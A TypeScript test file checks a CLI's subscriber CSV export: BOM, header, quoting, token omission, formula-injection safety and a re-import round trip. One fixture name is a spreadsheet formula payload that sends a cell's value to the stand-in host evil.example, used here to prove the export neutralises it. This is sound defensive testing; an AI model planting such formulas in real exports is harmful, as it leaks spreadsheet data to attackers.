/** `advisory subscribers export` through the CLI entry (in process): the file's bytes, formula safety, no tokens, the round trip. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { copyFileSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { main } from '../../src/cli/main.js';
import type { Store } from '../../src/delivery/store/index.js';
import { csvRecords, formulaSafe } from '../../src/delivery/subscriber-list.js';
import { tmpProject, withStore } from '../delivery/helpers.js';

const FIXTURES = join(import.meta.dirname, '../fixtures/subscribers');
const NOW = '2014-09-20T02:00:00Z';
const roots: string[] = [];
let root: string;
const project = () => {
  const r = tmpProject();
  roots.push(r);
  return r;
};
beforeEach(() => {
  root = project();
});
afterEach(() => {
  for (const r of roots.splice(0)) rmSync(r, { recursive: true, force: true });
});

async function cli(args: string[], at = root) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main([...args, '--root', at], { out: (t) => out.push(t), err: (t) => err.push(t), env: { LOG_LEVEL: 'silent', ADVISORY_LANG: 'en' }, now: () => new Date(NOW) }, at);
  return { code, out: out.join('\n'), err: err.join('\n') };
}
const ledger = <T>(f: (s: Store) => T | Promise<T>, at = root): Promise<T> => withStore(join(at, 'var'), f);
const activeList = (at: string) => ledger(async (s) => (await s.subscribers('active')).map((x) => [x.address, x.name]).sort(), at);

/** A project with subscribers in every state, Chinese names, a name with quotes and a comma, and one meant to be a formula. */
async function populated() {
  copyFileSync(join(FIXTURES, 'excel-gbk.csv'), join(root, 'excel-gbk.csv'));
  expect((await cli(['subscribers', 'import', 'excel-gbk.csv'])).code).toBe(0);
  await cli(['subscribers', 'add', 'quote@example.org', '--name', 'Li, "Si"']);
  await cli(['subscribers', 'add', 'formula@example.org', '--name', '=HYPERLINK("http://evil.example/?"&A1,"点我")']);
  await cli(['subscribers', 'add', 'gone@example.org', '--name', '走了']);
  await cli(['subscribers', 'remove', 'gone@example.org']);
  await ledger(async (s) => {
    const id = (await s.subscriberByAddress('li.si@example.org'))!.id;
    for (let i = 0; i < 3; i++) await s.recordBounce(id, new Date(NOW), { code: '550', message: 'no such user' });
    await s.addSubscriber({ address: 'pending@example.org', status: 'pending', source: 'web' }, new Date(NOW));
  });
}

describe('advisory subscribers export', () => {
  it('writes a CSV file: UTF-8 with BOM, the documented header, every state, formula-safe, no tokens', async () => {
    await populated();
    const r = await cli(['subscribers', 'export', 'out.csv']);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/^exported 7 subscriber\(s\) to .*out\.csv \(CSV, UTF-8 with BOM; no unsubscribe tokens\)\.$/);
    const bytes = readFileSync(join(root, 'out.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString('utf8').slice(1).split('\r\n');
    expect(lines[0]).toBe('email,name,status,source,created_at,confirmed_at,unsubscribed_at,bounces');
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(1, -1).map((l) => l.split(',').slice(0, 1)[0])).toEqual([
      'formula@example.org', 'gone@example.org', 'li.si@example.org', 'pending@example.org', 'quote@example.org', 'wang.wu@example.cn', 'zhang.san@example.org',
    ]);
    expect(lines).toContain('zhang.san@example.org,张三,active,import:excel-gbk.csv,2014-09-20T02:00:00.000Z,2014-09-20T02:00:00.000Z,,0');
    expect(lines).toContain('li.si@example.org,李四,bounced,import:excel-gbk.csv,2014-09-20T02:00:00.000Z,2014-09-20T02:00:00.000Z,,3');
    expect(lines).toContain('quote@example.org,"Li, ""Si""",active,cli,2014-09-20T02:00:00.000Z,2014-09-20T02:00:00.000Z,,0');
    expect(lines.find((l) => l.startsWith('formula@'))).toBe('formula@example.org,"HYPERLINK(""http://evil.example/?""&A1,""点我"")",active,cli,2014-09-20T02:00:00.000Z,2014-09-20T02:00:00.000Z,,0');
    // No cell, quoted or not, starts with what a spreadsheet runs as a formula.
    const cells = csvRecords(bytes.toString('utf8').slice(1), ',').records.flatMap((rec) => rec.cells);
    expect(cells).toHaveLength(8 * 8);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const tokens = await ledger(async (s) => (await s.subscribers()).map((x) => [x.unsubscribeToken, x.id]).flat());
    for (const t of tokens) expect(bytes.toString('utf8')).not.toContain(t);
  });

  it('writes to standard output without a file (or with -), the count on standard error; --status filters', async () => {
    await populated();
    const r = await cli(['subscribers', 'export', '--status', 'active']);
    expect(r.code).toBe(0);
    expect(r.err).toBe('exported 4 subscriber(s) (active) as CSV (UTF-8 with BOM).');
    expect(r.out.startsWith('\uFEFFemail,name,status,')).toBe(true);
    expect(csvRecords(r.out.slice(1), ',').records.slice(1).map((rec) => rec.cells[2])).toEqual(['active', 'active', 'active', 'active']);
    const dash = await cli(['subscribers', 'export', '-', '--status', 'unsubscribed']);
    expect(dash.out.split('\r\n')[1]).toMatch(/^gone@example\.org,走了,unsubscribed,cli,/);
  });

  it('warns about an address a formula-safe cell had to change (it would not import back the same)', async () => {
    await ledger((s) => s.addSubscriber({ address: '-dash@example.org' }, new Date(NOW)));
    const r = await cli(['subscribers', 'export', '-']);
    expect(r.out).toContain('\r\ndash@example.org,');
    expect(r.err).toContain('warning: the address -dash@example.org starts with a character a spreadsheet runs as a formula');
  });

  it('round trip: exported, then imported into a fresh project, gives the same active list, and no one who left comes back', async () => {
    await populated();
    await cli(['subscribers', 'export', 'all.csv']);
    const fresh = project();
    copyFileSync(join(root, 'all.csv'), join(fresh, 'all.csv'));
    const r = await cli(['subscribers', 'import', 'all.csv'], fresh);
    expect(r.code).toBe(0);
    expect(r.out.split('\n')[0]).toBe('all.csv (UTF-8): 4 added, 0 already present, 0 unsubscribed earlier (skipped), 3 not subscribed in the file\'s status column (skipped), 0 invalid.');
    // The same people with the same names; a name that began as a formula comes back without its "=" (by design).
    const exported = (await activeList(root)).map(([a, n]) => [a, n && formulaSafe(n)]);
    expect(await activeList(fresh)).toEqual(exported);
    expect(exported).toContainEqual(['formula@example.org', 'HYPERLINK("http://evil.example/?"&A1,"点我")']);
    expect(await activeList(fresh)).toContainEqual(['quote@example.org', 'Li, "Si"']);
    const others = await ledger(async (s) => (await s.subscribers()).filter((x) => x.status !== 'active'), fresh);
    expect(others).toEqual([]);
    // Each has its own new id and token in the new project: nothing of the old ledger's secrets came along.
    const oldIds = await ledger(async (s) => (await s.subscribers()).map((x) => x.id));
    for (const s of await ledger((st) => st.subscribers(), fresh)) expect(oldIds).not.toContain(s.id);
  });
});
